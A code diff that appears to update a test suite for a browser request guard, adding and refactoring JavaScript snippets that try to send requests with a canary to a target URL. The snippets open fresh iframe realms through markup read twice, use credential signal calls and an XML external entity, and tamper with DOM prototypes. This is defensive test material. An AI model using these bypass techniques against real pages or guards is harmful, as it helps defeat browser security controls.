@@ -26,6 +26,7 @@ const peer = (Peer) => {{
 const peerOf = (frame) => peer(frame.contentWindow.RTCPeerConnection);
 const last = () => window[window.length - 1];
 const useRealm = (realm) => {{
+  new realm.Image().src = to;
   realm.open.call(window, to);
   peer(realm.RTCPeerConnection); // not in WebKit
 }};
@@ -41,8 +42,14 @@ const page = (text) => URL.createObjectURL(new Blob([text], {{ type: "text/html"
 const leading = () => page(`<meta http-equiv="refresh" content="0;url=${{to}}">`);
 const shadow = (mode) => add("div").attachShadow({{ mode }});
 const parsed = (text, type) => new DOMParser().parseFromString(text, type);
-const changing = (first, second) => ({{ count: 0, toString() {{ return this.count++ ? second : first }} }});
-const changingFrame = () => changing("<p></p>", "<iframe></iframe>");
+const changing = (first, second) => {{
+  let count = 0;
+  return {{ toString: () => (count++ ? second : first) }};
+}};
+const readTwice = (insert, texts = ["<p></p>", "<iframe></iframe>"]) => {{
+  for (const order of [texts, texts.toReversed()])
+    try {{ insert(changing(...order)); useRealm(last()) }} catch {{}}
+}};
 const prefixed = (name) => {{
   const root = document.implementation.createDocument("{XHTML}", "html").documentElement;
   root.innerHTML = `<x:${{name}} xmlns:x='{XHTML}'><x:iframe/></x:${{name}}>`;
@@ -152,6 +159,16 @@ CONNECTIONS = {
     "icon of a notification": "new Notification(canary, {icon: to})",
     "end of an identity": "IdentityCredential.disconnect({configURL: to, clientId: canary,"
     " accountHint: canary}).catch(() => {})",
+    **{
+        f"signal of {name}": f"PublicKeyCredential.signal{method}({{rpId: host, credentialId: 'AA',"
+        " userId: 'AA', allAcceptedCredentialIds: [], name: canary, displayName: canary})"
+        ".catch(() => {})"
+        for name, method in (
+            ("no credential", "UnknownCredential"),
+            ("all credentials", "AllAcceptedCredentials"),
+            ("details", "CurrentUserDetails"),
+        )
+    },
     "entity of XML": "parsed(`<!DOCTYPE a [<!ENTITY e SYSTEM '${to}'>]><a>&e;</a>`, 'text/xml')",
 }  # fmt: skip
 """Requests of the page itself, which its policy or its guard must refuse."""
@@ -201,16 +218,13 @@ REALMS = {
     " document.body.append(make('frame')); peer(last().RTCPeerConnection); document.body = b",
     "of an object": "peerOf(add('object', {type: 'text/html', data: 'about:blank'}))",
     "of an embedded page": "peerOf(add('embed', {type: 'text/html', src: 'about:blank'}))",
-    "of a frame by markup read twice": "add('div').innerHTML = changingFrame();"
-    " useRealm(last())",
-    "of a frame by outer markup read twice": "add('div').outerHTML = changingFrame();"
-    " useRealm(last())",
-    "of a frame by added markup read twice": "markup(changingFrame());"
-    " useRealm(last())",
+    "of a frame by markup read twice": "readTwice((text) => add('div').innerHTML = text)",
+    "of a frame by outer markup read twice": "readTwice((text) => add('div').outerHTML = text)",
+    "of a frame by added markup read twice": "readTwice(markup)",
     "of a frame by a command read twice": "add('p', {contentEditable: 'true'}).focus();"
-    " document.execCommand('insertHTML', false, changingFrame()); useRealm(last())",
-    "of a frame with a name read twice": "document.body.append(document.createElement("
-    "changing('p', 'iframe'))); useRealm(last())",
+    " readTwice((text) => document.execCommand('insertHTML', false, text))",
+    "of a frame with a name read twice": "readTwice((name) => document.body.append("
+    "document.createElement(name)), ['p', 'iframe'])",
     "of a frame with a prefix": "document.body.append(prefixed('div'));"
     " useRealm(last())",
     "of a frame in a caption": "add('table').caption = prefixed('caption');"
@@ -367,8 +381,9 @@ ATTACKS = {
     "nodes": """swap(Node.prototype, "parentNode", { get: () => null });
         for (const name of ["localName", "namespaceURI", "attributes"])
             swap(Element.prototype, name, { get: () => null });
-        for (const name of ["closest", "getAttribute", "getAttributeNS", "matches", "removeAttribute",
-            "removeAttributeNS", "querySelectorAll"]) swap(Element.prototype, name, () => null)""",
+        for (const name of ["closest", "getAttribute", "getAttributeNS", "matches",
+            "querySelectorAll", "removeAttribute", "removeAttributeNS"])
+                swap(Element.prototype, name, () => null)""",
     "events": """for (const name of ["preventDefault", "stopPropagation"])
             swap(Event.prototype, name, () => {});
         swap(Event.prototype, "composedPath", () => []);
@@ -397,14 +412,16 @@ ATTACKS = {
 """Changes of what a guard may rely on. `swap` and `ended` take them back when all is tried."""
 
 SWAPS = """
-const { Array, Element, Event, Function, Node, Object, Reflect, RegExp, Set, String, Symbol, URL } = window;
-const swaps = [], { defineProperty, getOwnPropertyDescriptor } = Object, ended = new AbortController();
+const { Array, Element, Event, Function, Node, Object, Reflect, RegExp, Set } = window;
+const { String, Symbol, URL } = window;
+const { defineProperty, getOwnPropertyDescriptor } = Object;
+const swaps = [], ended = new AbortController();
 const swap = (owner, name, value) => {
-  const before = owner && getOwnPropertyDescriptor(owner, name);
   if (!owner) return;
-  swaps[swaps.length] = { owner, name, before };
-  try { defineProperty(owner, name, typeof value === "object" && value ? { ...value, configurable: true }
-      : { value, writable: true, configurable: true }) } catch {}
+  swaps[swaps.length] = { owner, name, before: getOwnPropertyDescriptor(owner, name) };
+  const getter = value && typeof value === "object";
+  const after = getter ? { get: value.get } : { value, writable: true };
+  try { defineProperty(owner, name, { ...after, configurable: true }) } catch {}
 };
 const changed = () => {
   let count = 0;
